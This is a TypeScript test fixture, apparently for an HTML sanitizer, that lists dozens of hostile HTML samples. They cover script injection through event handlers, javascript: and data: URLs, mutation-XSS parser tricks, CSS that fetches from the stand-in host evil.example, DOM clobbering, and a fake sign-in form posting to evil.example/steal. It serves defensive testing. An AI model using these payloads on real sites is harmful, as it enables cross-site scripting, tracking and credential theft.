export type Hostile = { what: string; html: string }

/** What a script does when it runs here: each way leaves a trace that the story looks for. */
const run = `top.hostile=1;parent.hostile=1;window.hostile=1;alert('hostile')`
const evil = 'https://evil.example'

/**
 * Letters that want more than to be read: to run, to fetch, to lead away, to cover the page or to ask for a password.
 * Known ways, written down anew: script in every place that can hold one, parsers that disagree, styles that fetch.
 */
export const hostileLetters: Hostile[] = [
  { what: 'a script', html: `<script>${run}</script>` },
  {
    what: 'a script from elsewhere',
    html: `<script src="${evil}/a.js"></script><script type=module src="${evil}/b.js"></script>`,
  },
  { what: 'a picture that fails', html: `<img src=x onerror="${run}"><img src="${evil}/p.png" onload="${run}">` },
  { what: 'attributes without quotes or spaces', html: `<img/src=x/onerror=${run}><svg/onload=${run}>` },
  {
    what: 'a drawing with a script',
    html: `<svg xmlns="http://www.w3.org/2000/svg"><script>${run}</script><a href="javascript:${run}"><text y="20">press</text></a><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  },
  {
    what: 'a drawing that uses another',
    html: `<svg><use href="${evil}/s.svg#x"/><image href="${evil}/i.png"/><foreignObject><iframe src="${evil}"></iframe></foreignObject></svg>`,
  },
  {
    what: 'mathematics with an address',
    html: `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction><annotation-xml encoding="text/html"><img src=x onerror="${run}"></annotation-xml></math>`,
  },
  {
    what: 'an address that is a script',
    html: `<a href="javascript:${run}">one</a><a href="JaVaScRiPt:${run}">two</a><a href="java&#09;script:${run}">three</a><a href="&#1;javascript:${run}">four</a><a href="vbscript:x">five</a>`,
  },
  {
    what: 'an address that is a page',
    html: `<a href="data:text/html,<script>${run}</script>">data</a><a href="blob:${evil}/1">blob</a><a href="file:///etc/passwd">file</a>`,
  },
  {
    what: 'a frame',
    html: `<iframe src="javascript:${run}"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><iframe src="${evil}"></iframe><frameset><frame src="${evil}"></frameset>`,
  },
  {
    what: 'objects',
    html: `<object data="${evil}/o.swf"></object><embed src="${evil}/e.swf"><applet code="X" codebase="${evil}"></applet>`,
  },
  {
    what: 'a form that asks for a password',
    html: `<form action="${evil}/steal" method=post><input name=user autofocus onfocus="${run}"><input type=password><button formaction="${evil}">Sign in again</button></form>`,
  },
  {
    what: 'a form that posts to us',
    html: `<form action="/api/sessions" method=post><input type=submit value="Go on"></form><button form=x formaction="javascript:${run}">x</button>`,
  },
  {
    what: 'a page that moves on',
    html: `<meta http-equiv="refresh" content="0;url=${evil}"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
  },
  {
    what: 'another base',
    html: `<base href="${evil}/"><base target="_top"><a href="inside">a link</a><img src="p.png">`,
  },
  {
    what: 'styles from elsewhere',
    html: `<link rel=stylesheet href="${evil}/s.css"><style>@import url(${evil}/i.css);body{background:url(${evil}/b.png)}@font-face{font-family:x;src:url(${evil}/f.woff)}p{font-family:x}</style><p>text</p>`,
  },
  {
    what: 'a style that fetches',
    html: `<div style="background:url(${evil}/1.png)">a</div><div style="background-image:image-set('${evil}/2.png' 1x)">b</div><ul style="list-style:url(${evil}/3.png)"><li>c</ul><p style="content:url(${evil}/4.png);cursor:url(${evil}/5.cur),auto">d</p>`,
  },
  {
    what: 'a style that hides its address',
    html: `<div style="background:\\75rl(${evil}/6.png)">a</div><div style="background:u/**/rl(${evil}/7.png)">b</div><div style="width:expression(${run});behavior:url(${evil}/x.htc);-moz-binding:url(${evil}/x.xml)">c</div>`,
  },
  {
    what: 'a style that covers the page',
    html: `<div style="position:fixed;inset:0;z-index:2147483647;width:100vw;height:100vh;background:red">covered</div><div style="position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px">covered</div><p style="margin:-9999px;transform:scale(99)">far</p>`,
  },
  {
    what: 'pictures by every name',
    html: `<img src="${evil}/a.png"><img srcset="${evil}/b.png 1x"><picture><source srcset="${evil}/c.png"><img src="//evil.example/d.png"></picture><input type=image src="${evil}/e.png"><img src="http://evil.example/f.png" lowsrc="${evil}/g.png" dynsrc="${evil}/h.png">`,
  },
  {
    what: 'pictures in old attributes',
    html: `<table background="${evil}/t.png"><tr><td background="${evil}/u.png">cell</td></tr></table><body background="${evil}/v.png">`,
  },
  {
    what: 'sound and film',
    html: `<video src="${evil}/v.mp4" poster="${evil}/p.png" autoplay onerror="${run}"></video><audio src="${evil}/a.mp3" autoplay></audio><video><track src="${evil}/t.vtt"><source onerror="${run}"></video>`,
  },
  {
    what: 'things fetched ahead',
    html: `<link rel=prefetch href="${evil}/1"><link rel=dns-prefetch href="//evil.example"><link rel=preload as=image href="${evil}/2.png"><a href="${evil}" ping="${evil}/ping">pinged</a>`,
  },
  {
    what: 'events that need nobody',
    html: `<details open ontoggle="${run}"><summary>x</summary></details><marquee onstart="${run}">x</marquee><body onload="${run}"><div onanimationstart="${run}" style="animation:x 1s">x</div><input autofocus onfocus="${run}">`,
  },
  {
    what: 'a template that mutates',
    html: `<template><img src=x onerror="${run}"></template><noscript><p title="</noscript><img src=x onerror=${run}>">`,
  },
  {
    what: 'parsers that disagree',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  },
  {
    what: 'a form inside a form',
    html: `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
  },
  {
    what: 'a comment that is none',
    html: `<!--><img src=x onerror=${run}>--><!--[if gte mso 9]><script>${run}</script><![endif]--><![CDATA[<img src=x onerror=${run}>]]><?xml-stylesheet href="javascript:${run}"?>`,
  },
  {
    what: 'text that ends early',
    html: `<textarea></textarea><img src=x onerror=${run}></textarea><title><img src=x onerror="${run}"></title><xmp><img src=x onerror=${run}></xmp><plaintext><img src=x onerror=${run}>`,
  },
  {
    what: 'select and its options',
    html: `<select><option><style></option></select><img src=x onerror=${run}></style></select><keygen autofocus onfocus=${run}><isindex action=j&Tab;a&Tab;vas&Tab;c&Tab;r&Tab;ipt:${run} type=image>`,
  },
  {
    what: 'names that shadow ours',
    html: `<img name=body><img id=documentElement><a id=location href="${evil}"></a><form id=contentDocument><input name=attributes></form><iframe name=hostile></iframe>`,
  },
  {
    what: 'zero bytes and odd spaces',
    html: `<scr\u0000ipt>${run}</scr\u0000ipt><img src=x o\u0000nerror=${run}><a href="java\u0000script:${run}">x</a><img\u000csrc=x\u000conerror=${run}>`,
  },
  {
    what: 'tags in strange letters',
    html: `<ſcript>${run}</ſcript><img src=x onerror\u3000=${run}><\u0130mg src=x onerror=${run}>`,
  },
  {
    what: 'a picture that is a drawing',
    html: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>"><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"><img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
  },
  {
    what: 'our own pages',
    html: `<img src="/api/sessions"><a href="/sign-in" target="_top">home</a><link rel=icon href="/api/me"><script src="/theme.js"></script><img src="/api/attachments/0/x.html">`,
  },
  {
    what: 'our own marks',
    html: `<img data-remote-src="javascript:${run}"><img data-remote-src="${evil}/mark.png" src="${evil}/mark2.png"><img data-cid="x&quot; onerror=&quot;${run}" src="cid:x&quot; onerror=&quot;${run}">`,
  },
  { what: 'deep nesting', html: `${'<div><table><tr><td>'.repeat(600)}<img src=x onerror="${run}">` },
  {
    what: 'an endless line',
    html: `<pre>${'w'.repeat(5000)}</pre><table width="99999"><tr><td width="99999" nowrap>wide</td></tr></table>`,
  },
]
